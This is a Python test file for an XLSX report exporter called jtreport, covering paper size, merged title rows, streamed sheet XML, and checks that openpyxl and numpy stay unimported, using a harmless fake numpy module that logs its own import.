    ids = [r[0] for r in book["All items"].iter_rows(min_row=FIRST_ROW, values_only=True)]
    assert ids == [i.id for i in items]
    book.close()


def test_paper_option(tmp_path: Path) -> None:
    path, _ = export(hand_statement(), tmp_path / "a3.xlsx", extra={"paper": "A3"})
    assert openpyxl.load_workbook(path)["All items"].page_setup.paperSize == 8
    with pytest.raises(ExportError, match="paper"):
        export(hand_statement(), tmp_path / "bad.xlsx", extra={"paper": "napkin"})


def test_import_does_not_load_openpyxl() -> None:
    code = (
        "import sys; import jtreport.plugins.exporters.xlsx_matrix as m;"
        "m.XlsxExporter(); print(sorted(k for k in sys.modules if k.startswith('openpyxl')))"
    )
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"


def test_command_line_writes_the_matrix(tmp_path: Path) -> None:
    from click.testing import CliRunner
    from jtreport.cli import main

    result = CliRunner().invoke(main, ["--format", "xlsx", "-o", str(tmp_path)])
    assert result.exit_code == 0, result.output
    (path,) = tmp_path.glob("*.xlsx")
    assert XlsxExporter().recognizes(path)
    assert "All items" in openpyxl.load_workbook(path, read_only=True).sheetnames


# Speed and memory ---------------------------------------------------------------------


def test_title_rows_are_merged_across_the_printed_columns(bundled_book: Any) -> None:
    for ws in (bundled_book["All items"], *area_sheets(bundled_book)):
        merged = {str(r) for r in ws.merged_cells.ranges}
        assert {"A1:F1", "A2:F2"} <= merged, ws.title
        assert ws["A1"].value and ws["A2"].value


def test_rows_are_streamed_into_the_saved_sheet() -> None:
    import io

    from jtreport.plugins.exporters.xlsx_matrix.reproducible import write_sheet
    from jtreport.plugins.exporters.xlsx_matrix.rowxml import SheetRows

    rows = SheetRows(4, ["A", "B", "C"])
    rows.add([("1.1", 1), (None, 2), ("Эмомалӣ & <高市>", 3)], 17.0)
    rows.add([(2, 1), (date(2026, 5, 31), 2), (True, 3)])
    assert [len(c) for c in rows.chunks(size=1)] == [len(c) for c in rows._rows]
    assert b"".join(rows.chunks()) == rows.xml()
    sheet = (
        b'<worksheet><dimension ref="A1:Q3"/><sheetData><row r="1"/></sheetData>'
        b"<mergeCells/></worksheet>"
    )
    out = io.BytesIO()
    write_sheet(sheet, rows, out)
    assert out.getvalue() == (
        b'<worksheet><dimension ref="A1:C5"/><sheetData><row r="1"/>'
        + rows.xml()
        + b"</sheetData><mergeCells/></worksheet>"
    )
    assert "Эмомалӣ &amp; &lt;高市&gt;".encode() in rows.xml()
    with pytest.raises(ValueError, match="sheetData"):
        write_sheet(b"<worksheet/>", rows, io.BytesIO())


FAKE_NUMPY = """
import os
with open(os.environ["FAKE_NUMPY_LOG"], "a") as log:
    log.write("numpy imported\\n")

def __getattr__(name):
    return type(name, (), {})
"""


def fake_numpy(tmp_path: Path) -> tuple[dict[str, str], Path]:
    """An environment where ``import numpy`` finds a fake that logs its import."""
    import os

    site = tmp_path / "fake-site"
    (site / "numpy").mkdir(parents=True)
    (site / "numpy" / "__init__.py").write_text(FAKE_NUMPY, encoding="utf-8")
    log = tmp_path / "numpy.log"
    env = {
        **os.environ,
        "PYTHONPATH": str(site),
        "FAKE_NUMPY_LOG": str(log),
        "JTREPORT_NO_PLUGINS": "1",
    }
    return env, log


def test_the_matrix_does_not_import_numpy(tmp_path: Path) -> None:
    """openpyxl imports numpy whenever it is installed; jtreport keeps it out when
    writing, regenerating and reading a matrix (``--status``)."""
    env, log = fake_numpy(tmp_path)
    cli = [sys.executable, "-c", "from jtreport.cli import main; main()"]
    out = tmp_path / "out"
    matrix = out / "japan-tajikistan-2025.xlsx"
    outputs: list[str] = []
    for args in (
        ["-f", "xlsx", "-o", str(out)],  # a new matrix
        ["-f", "all", "-o", str(out)],  # over last month's: statuses, merge
        ["-f", "json", "-o", str(tmp_path / "json"), "--status", str(matrix)],
    ):
        done = subprocess.run([*cli, *args], env=env, capture_output=True, text=True)
        assert done.returncode == 0, done.stderr
        outputs.append(done.stdout + done.stderr)
    assert f"showing the statuses recorded in {matrix}" in outputs[1]
    assert list(out.glob("*.xlsx")) == [matrix]
    assert not log.exists(), log.read_text()
    # the fake is found in this environment: the check above can fail
    subprocess.run([sys.executable, "-c", "import numpy"], env=env, check=True)
    assert log.read_text() == "numpy imported\n"
